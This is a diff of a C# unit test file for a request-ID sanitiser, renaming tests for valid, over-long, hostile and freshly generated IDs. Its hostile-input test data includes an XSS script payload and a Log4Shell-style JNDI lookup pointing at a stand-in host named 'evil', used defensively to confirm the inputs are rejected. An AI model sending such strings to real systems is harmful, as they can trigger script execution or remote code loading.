@@ -8,10 +8,10 @@ public sealed class RequestIdTests
     [InlineData("a")]
     [InlineData("4bf92f3577b34da6a3ce929d0e0e4736")]
     [InlineData("Web-1_checkout.7")]
-    public void sane_id_is_kept(string offered) => Assert.Equal(offered, RequestId.From(offered));
+    public void valid_id_is_kept(string offered) => Assert.Equal(offered, RequestId.From(offered));
 
     [Fact]
-    public void id_of_sixty_four_characters_is_kept_and_a_longer_one_replaced()
+    public void id_longer_than_64_characters_is_replaced()
     {
         var longest = new string('x', 64);
 
@@ -35,8 +35,8 @@ public sealed class RequestIdTests
     [InlineData("<script>alert(1)</script>")]
     [InlineData("${jndi:ldap://evil}")]
     [InlineData("a,b")]
-    public void hostile_id_is_replaced(string? offered) => Assert.Matches("^[0-9a-f]{32}$", RequestId.From(offered));
+    public void invalid_id_is_replaced(string? offered) => Assert.Matches("^[0-9a-f]{32}$", RequestId.From(offered));
 
     [Fact]
-    public void every_made_id_is_another() => Assert.NotEqual(RequestId.From(null), RequestId.From(null));
+    public void generated_ids_are_unique() => Assert.NotEqual(RequestId.From(null), RequestId.From(null));
 }
